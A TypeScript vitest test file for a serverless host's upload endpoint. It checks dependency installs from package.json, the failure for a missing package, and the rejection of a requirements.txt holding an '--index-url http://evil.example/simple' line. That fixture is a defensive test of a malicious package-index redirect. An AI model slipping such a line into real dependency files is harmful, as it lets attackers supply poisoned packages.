import { createZip } from '@nanogrid/core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type ErrorJson, type TestHost, makeHost, run, upload } from './helpers.js';

const zip = (files: Record<string, string>) => createZip(Object.entries(files).map(([path, data]) => ({ path, data })));
const HANDLER = `import isNumber from 'is-number';\nexport async function handler(event) { return { number: isNumber(event.x) }; }\n`;

// The default runtimes over HTTP: package.json installs from the host's npm registry (reachable here).
describe('dependencies through POST /upload (default runtimes, process sandbox)', () => {
  let host: TestHost;
  beforeAll(async () => {
    host = await makeHost();
  });
  afterAll(async () => {
    await host?.close();
  });

  it('a zip with package.json deploys with its packages and runs by name', async () => {
    const manifest = JSON.stringify({ dependencies: { 'is-number': '7.0.0' } });
    const files = { 'main.mjs': HANDLER, 'package.json': manifest };
    const up = await upload(host.app, {
      file: { name: 'fn.zip', content: await zip(files) },
      function_name: 'numbers',
      runtime: 'nodejs20.x',
    });
    expect(up.status).toBe(201);
    const ran = await run(host.app, { function: 'numbers', payload: { x: '12' } });
    expect(await ran.json()).toMatchObject({ status: 'completed', result: { number: true } });
  });

  it('a package that does not exist: 422 BUILD_FAILED naming it; the previous version keeps serving', async () => {
    const manifest = JSON.stringify({ dependencies: { 'nanogrid-no-such-package-7f3e9': '1.0.0' } });
    const res = await upload(host.app, {
      file: { name: 'fn.zip', content: await zip({ 'main.mjs': HANDLER, 'package.json': manifest }) },
      function_name: 'numbers',
      runtime: 'nodejs20.x',
    });
    expect(res.status).toBe(422);
    const body = (await res.json()) as ErrorJson;
    expect(body.error.code).toBe('BUILD_FAILED');
    expect(body.error.message).toContain('nanogrid-no-such-package-7f3e9');
    const ran = await run(host.app, { function: 'numbers', payload: { x: 'twelve' } });
    expect(await ran.json()).toMatchObject({ status: 'completed', result: { number: false } });
  });

  it('a requirements.txt with an --index-url line: 422 BUILD_FAILED naming the line, nothing deployed', async () => {
    const res = await upload(host.app, {
      file: {
        name: 'fn.zip',
        content: await zip({
          'main.py': 'def handler(e, c):\n    return 1\n',
          'requirements.txt': '--index-url http://evil.example/simple\nrequests\n',
        }),
      },
      function_name: 'evil-index',
      runtime: 'python3.11',
    });
    expect(res.status).toBe(422);
    expect(((await res.json()) as ErrorJson).error).toMatchObject({
      code: 'BUILD_FAILED',
      message: expect.stringContaining('requirements.txt line 1'),
    });
    const listed = await (await host.app.request('/functions')).json();
    expect(JSON.stringify(listed)).not.toContain('evil-index');
  });
});
